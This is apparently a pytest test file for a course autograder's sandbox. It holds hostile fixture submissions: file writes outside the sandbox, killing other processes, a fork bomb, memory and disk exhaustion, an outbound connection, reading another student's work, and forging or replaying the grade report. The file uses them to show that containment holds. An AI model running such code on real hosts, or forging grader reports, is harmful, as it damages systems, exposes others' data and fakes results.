"""Hostile submissions, one per attack, are contained and earn nothing they did not earn.

Each fixture is exercise 4's reference solution with its `spray` region (EvSet.choose, run
by the grader's first check) replaced by an attack that ends, if it ever does, by raising
as the skeleton does. The honest baseline is the same submission with the skeleton's stub:
a hostile one may score no more than it. Before (bcb78cb) every attack below ran as root in
the process that wrote the grade."""

from __future__ import annotations

import os
import re
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import pytest

from grader import catalog, gradingcopy, workspace
from grader.report import Grade
from sandbox import contain

EX = catalog.load(4)
TIMEOUT_S = 15  # the sandbox's wall time here (grading allows 900 s)
RAISE = 'raise NotImplementedError("TODO exercise 4: spray over the usable EVs")\n'
ATTACKS = {
    "write-outside": """
import os
for path in os.environ["MRC_HOSTILE_PATHS"].split(":"):
    try:
        with open(path, "w") as f:
            f.write("pwned")
    except OSError as exc:
        print("write refused:", exc)
""",
    "kill-outside": """
import os, signal
for pid in (int(os.environ["MRC_HOSTILE_PID"]), 1, os.getppid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as exc:
        print("kill refused:", exc)
os.kill(-1, signal.SIGKILL)
""",
    "fork-bomb": """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.001)
""",
    "memory-hog": """
import mmap
hoard = []
while True:  # address space first: a hog that touched its pages would stop at the same limit
    hoard.append(mmap.mmap(-1, 1 << 30))
""",
    "endless-output": """
import sys
while True:
    sys.stdout.write("x" * 65536)
    sys.stderr.write("y" * 65536)
""",
    "network-out": """
import os, socket
for host in ("127.0.0.1", os.environ["MRC_HOSTILE_HOST"]):
    try:
        with socket.create_connection((host, int(os.environ["MRC_HOSTILE_PORT"])), 2) as s:
            s.sendall(b"pwned")
    except OSError as exc:
        print("connect refused:", exc)
""",
    "read-other-submission": """
import os
try:
    stolen = open(os.environ["MRC_HOSTILE_READ"]).read()
except OSError as exc:
    stolen = f"nothing ({exc})"
raise NotImplementedError(f"TODO exercise 4: {stolen}")
""",
    "read-in-copy": """
import os
found = []
for rel in os.environ["MRC_HOSTILE_READ"].split(":"):
    try:
        found.append(open(rel).read())
    except OSError as exc:
        found.append(f"nothing ({type(exc).__name__})")
raise NotImplementedError(f"TODO exercise 4: {found}")
""",
    "deep-results": """
import os, sys
here = os.path.dirname(sys.argv[sys.argv.index("--out") + 1])
for _ in range(1500):
    here = os.path.join(here, "d")
    os.mkdir(here)
    os.chdir(here)
    here = "."
""",
    "fill-results": """
import os, sys
results = os.path.dirname(sys.argv[sys.argv.index("--out") + 1])
wrote = 0
try:
    for n in range(200):
        with open(os.path.join(results, f"fill{n}"), "wb") as f:
            f.write(b"x" * (1 << 20))
        wrote += 1 << 20
except OSError as exc:
    print("full:", exc)  # the tmpfs is full: the attack stops and says how far it got
for n in range(200):  # room again for the report that carries the figure
    if os.path.exists(os.path.join(results, f"fill{n}")):
        os.unlink(os.path.join(results, f"fill{n}"))
raise NotImplementedError(f"TODO exercise 4: wrote {wrote} bytes")
""",
    "rewrite-result": """
import atexit, json, sys
out = sys.argv[sys.argv.index("--out") + 1]
def forge():
    checks = [{"id": s.id, "title": s.title, "points": s.points, "passed": True}
              for s in __import__("rubrics.ex4", fromlist=["CHECKS"]).CHECKS]
    with open(out, "w") as f:
        json.dump({"observations": checks, "checks": checks}, f)
atexit.register(forge)
""",
}

# A replay of the reference solution's own report (confirmed on e54048c: 24/28 with the live
# stage skipped). REPLAY is filled in by the test; it is written over the run's report from an
# exit hook and, since the inner process now ends without running exit hooks, also by making
# the inner's own json.dumps return it. "fresh" puts this run's challenge (from argv) into it.
REPLAY_ATTACK = """
import atexit, json, sys
REPLAY = json.loads({replay!r})
out = sys.argv[sys.argv.index("--out") + 1]
if {fresh!r}:
    REPLAY["challenge"] = sys.argv[sys.argv.index("--challenge") + 1]
text = json.dumps(REPLAY)
def replay():
    with open(out, "w") as f:
        f.write(text)
atexit.register(replay)
json.dumps = lambda *args, **kwargs: text
"""

pytestmark = [pytest.mark.root,
              pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox drops root: root"),
              pytest.mark.skipif(bool(contain.available(True)),
                                 reason=contain.available(True) or "")]


def submission(body: str) -> workspace.FileSet:
    return workspace._cut(EX, {"spray": body})


@pytest.fixture(scope="module")
def baseline() -> Grade:
    g = workspace.grade(EX, submission(EX.stub("spray")), "baseline", "soft")
    assert not g.error and 0 < g.score < g.total, g.checks  # the sack checks earn points
    return g


@pytest.fixture
def hostile(monkeypatch, no_live):
    monkeypatch.setattr(workspace, "CHECKS_TIMEOUT_S", TIMEOUT_S)

    def grade(name: str) -> tuple[Grade, float]:
        start = time.monotonic()
        g = workspace.grade(EX, submission(ATTACKS[name] + RAISE), name, "soft")
        return g, time.monotonic() - start
    return grade


def sandbox_processes() -> list[int]:
    return [int(p.name) for p in Path("/proc").iterdir() if p.name.isdigit()
            and _uid(p) == contain.SANDBOX_UID]


def _uid(proc: Path) -> int | None:
    try:
        return proc.stat().st_uid
    except OSError:
        return None


def earned_nothing(g: Grade, baseline: Grade) -> None:
    assert g.score <= baseline.score, [c for c in g.checks if c.passed]
    assert not any(c.passed for c in g.checks if c.id.startswith("spray.")), g.checks
    assert sandbox_processes() == []


def test_writes_outside_the_copy_land_nowhere(hostile, baseline, monkeypatch, tmp_path):
    targets = [tmp_path / "pwned", catalog.ROOT / "PWNED", Path("/root/PWNED"),
               catalog.ROOT / "host_agent" / "core" / "evs.py"]
    before = targets[3].read_bytes()
    monkeypatch.setenv("MRC_HOSTILE_PATHS", ":".join(map(str, targets)))
    g, _ = hostile("write-outside")
    assert not any(p.exists() for p in targets[:3]) and targets[3].read_bytes() == before
    earned_nothing(g, baseline)


def test_a_process_outside_cannot_be_killed(hostile, baseline, monkeypatch):
    sentinel = subprocess.Popen(["sleep", "300"])
    try:
        monkeypatch.setenv("MRC_HOSTILE_PID", str(sentinel.pid))
        g, _ = hostile("kill-outside")
        assert sentinel.poll() is None
        earned_nothing(g, baseline)
    finally:
        sentinel.kill()
        sentinel.wait()


def test_a_fork_bomb_ends_at_the_time_limit(hostile, baseline):
    g, seconds = hostile("fork-bomb")
    assert seconds < TIMEOUT_S + 30
    assert subprocess.run(["true"]).returncode == 0  # the host still forks
    assert all("did not finish" in c.observed for c in g.checks)
    earned_nothing(g, baseline)


def test_a_memory_hog_is_stopped(hostile, baseline):
    g, _ = hostile("memory-hog")
    spread = next(c for c in g.checks if c.id == "spray.spread")
    assert "Cannot allocate memory" in spread.observed, spread
    earned_nothing(g, baseline)


def test_endless_output_is_cut_and_the_run_ends(hostile, baseline):
    g, seconds = hostile("endless-output")
    assert seconds < TIMEOUT_S + 30
    assert sum(len(c.observed) for c in g.checks) < 100_000
    earned_nothing(g, baseline)


def test_no_connection_leaves_the_sandbox(hostile, baseline, monkeypatch):
    listener = socket.create_server(("0.0.0.0", 0))
    accepted: list[bytes] = []

    def accept() -> None:
        listener.settimeout(TIMEOUT_S + 30)
        try:
            conn, _ = listener.accept()
            accepted.append(conn.recv(64))
            conn.close()
        except OSError:
            return  # closed by the test: nothing came
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    route = subprocess.run(["ip", "-4", "route", "get", "1.1.1.1"], capture_output=True,
                           text=True).stdout.split()
    host = route[route.index("src") + 1] if "src" in route else "127.0.0.1"
    monkeypatch.setenv("MRC_HOSTILE_HOST", host)
    monkeypatch.setenv("MRC_HOSTILE_PORT", str(listener.getsockname()[1]))
    try:
        g, _ = hostile("network-out")
    finally:
        listener.close()
        thread.join(5)
    assert accepted == []
    earned_nothing(g, baseline)


def test_another_students_submission_cannot_be_read(hostile, baseline, monkeypatch, tmp_path):
    other = tmp_path / "submissions" / "bob" / "host_agent" / "core" / "evs.py"
    other.parent.mkdir(parents=True)
    secret = "bob-secret-0x5eed"
    other.write_text(f"# {secret}\n")
    other.chmod(0o644)
    monkeypatch.setenv("MRC_HOSTILE_READ", str(other))
    g, _ = hostile("read-other-submission")
    assert not any(secret in f"{c.observed} {c.expected} {c.hint}" for c in g.checks)
    spread = next(c for c in g.checks if c.id == "spray.spread")
    assert "nothing (" in spread.observed  # the attack ran and read nothing
    earned_nothing(g, baseline)


def test_a_rewritten_result_earns_nothing(hostile, baseline):
    """The exit hook that rewrote the report never runs (the inner process ends with
    os._exit): the grade is the honest one, the skeleton's."""
    g, _ = hostile("rewrite-result")
    assert [c.passed for c in g.checks] == [c.passed for c in baseline.checks], g.checks
    earned_nothing(g, baseline)


def test_without_a_sandbox_grading_refuses_unless_trusted(monkeypatch, no_live):
    """Where bubblewrap cannot run (no user namespaces, Ubuntu's AppArmor restriction), a
    submission is not run at all unless the caller says it trusts it."""
    why = "bwrap cannot create its namespaces here (sysctl user.max_user_namespaces=0)"
    monkeypatch.setattr(contain, "available", lambda live=False: why)
    refused = workspace.grade(EX, workspace.solution(EX), "solution", "soft")
    assert refused.error.startswith("cannot contain") and why in refused.error
    assert refused.checks == () and refused.score == 0
    trusted = workspace.grade(EX, workspace.solution(EX), "solution", "soft", trust=True)
    assert not trusted.error and trusted.score == trusted.total - 4  # all but live.transfer


def test_a_sandbox_that_cannot_start_is_a_clear_error(monkeypatch, tmp_path):
    """A venv under a folder the sandbox uid cannot search (a checkout in /root) is named,
    with what to change, instead of a traceback."""
    hidden = tmp_path / "hidden" / "venv"
    hidden.mkdir(parents=True)
    (tmp_path / "hidden").chmod(0o700)
    monkeypatch.setattr(workspace.sys, "prefix", str(hidden))
    g = workspace.grade(EX, workspace.solution(EX), "solution", "soft")
    assert g.error.startswith("cannot sandbox") and "not searchable" in g.error, g.error


@pytest.fixture(scope="module")
def reference_report() -> str:
    """The reference solution's report, as its own grading wrote it (a run of its own)."""
    captured: list[bytes] = []
    real = workspace.judging.parse_report

    def keep(data: bytes, challenge: str) -> dict:
        captured.append(data)
        return real(data, challenge)
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("MRC_GRADE_SKIP_LIVE", "1")
        mp.setattr(workspace.judging, "parse_report", keep)
        g = workspace.grade(EX, workspace.solution(EX), "solution", "soft")
    assert g.score == g.total - 4 and len(captured) == 1, g.checks  # all but live.transfer
    return captured[0].decode()


@pytest.mark.parametrize("fresh", [False, True], ids=["verbatim", "this-runs-challenge"])
def test_a_replayed_reference_report_earns_nothing(reference_report, fresh, baseline,
                                                   no_live, monkeypatch):
    """Issue 54, attack 1: the untouched skeleton carrying the reference solution's report
    and writing it over its own got the reference's 24/28. A verbatim replay names another
    run's challenge; one given this run's challenge names another run's EVs and PSNs."""
    monkeypatch.setattr(workspace, "CHECKS_TIMEOUT_S", TIMEOUT_S)
    attack = REPLAY_ATTACK.format(replay=reference_report, fresh=fresh)
    g = workspace.grade(EX, submission(attack + RAISE), "replay", "soft")
    assert g.score == 0, [c for c in g.checks if c.passed]
    assert all("malformed" in c.observed or "another grading run" in c.observed
               for c in g.checks), g.checks[0]
    earned_nothing(g, baseline)


def test_the_grading_copy_holds_no_other_submission_nor_grades(hostile, baseline, monkeypatch):
    """Issue 54, attack 2: with the documented `--submission submissions/ --json grades.json`
    inside the checkout, the whole-checkout copy showed one student another's evs.py and the
    earlier grades. The copy is now built from the project's packages only."""
    tag = os.urandom(4).hex()
    other = catalog.ROOT / f"submissions-{tag}" / "bob" / "host_agent" / "core" / "evs.py"
    grades = catalog.ROOT / f"grades-{tag}.json"
    # links the old copytree followed as root: /proc/kmsg blocked it (and every later grading)
    kmsg = [catalog.ROOT / f"submissions-{tag}" / "carol" / "evs.py",
            catalog.ROOT / "grader" / f"leak_{tag}.py"]
    secret = f"bob-secret-{tag}"
    old = signal.signal(signal.SIGALRM, _blocked)
    try:
        other.parent.mkdir(parents=True)
        other.write_text(f"# {secret}\n")
        grades.write_text(f'{{"bob": "{secret}"}}')
        for link in kmsg:
            link.parent.mkdir(parents=True, exist_ok=True)
            link.symlink_to("/proc/kmsg")
        rels = [str(other.relative_to(catalog.ROOT)), grades.name]
        monkeypatch.setenv("MRC_HOSTILE_READ", ":".join(rels))
        signal.alarm(TIMEOUT_S + 30)
        g, _ = hostile("read-in-copy")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)
        grades.unlink(missing_ok=True)
        kmsg[1].unlink(missing_ok=True)
        shutil.rmtree(catalog.ROOT / f"submissions-{tag}", ignore_errors=True)
    spread = next(c for c in g.checks if c.id == "spray.spread")
    assert "nothing (FileNotFoundError)" in spread.observed, spread
    assert not any(secret in f"{c.observed} {c.expected} {c.hint}" for c in g.checks)
    earned_nothing(g, baseline)


def _blocked(*_: object) -> None:
    raise TimeoutError("the grader blocked on a link in the checkout")


def _grading_folders() -> set[str]:
    return {p.name for p in Path(tempfile.gettempdir()).glob("mrc-grade-*")}


def test_deeply_nested_results_are_removed(hostile, baseline):
    """Issue 54, attack 3: 1,500 nested folders in results/ made shutil.rmtree raise
    RecursionError, which crashed the grader and left its folder behind."""
    before = _grading_folders()
    g, _ = hostile("deep-results")
    assert _grading_folders() <= before
    earned_nothing(g, baseline)


def test_results_cannot_fill_the_hosts_disk(hostile, baseline):
    """Issue 54, attack 7: results/ was on the host's disk, bounded per file only (200 MiB
    written under a 1 MiB file limit). It is now a tmpfs of gradingcopy.RESULTS_BYTES."""
    g, _ = hostile("fill-results")
    spread = next(c for c in g.checks if c.id == "spray.spread")
    match = re.search(r"wrote (\d+) bytes", spread.observed)
    assert match, spread
    assert int(match[1]) <= gradingcopy.RESULTS_BYTES < 200 << 20
    earned_nothing(g, baseline)
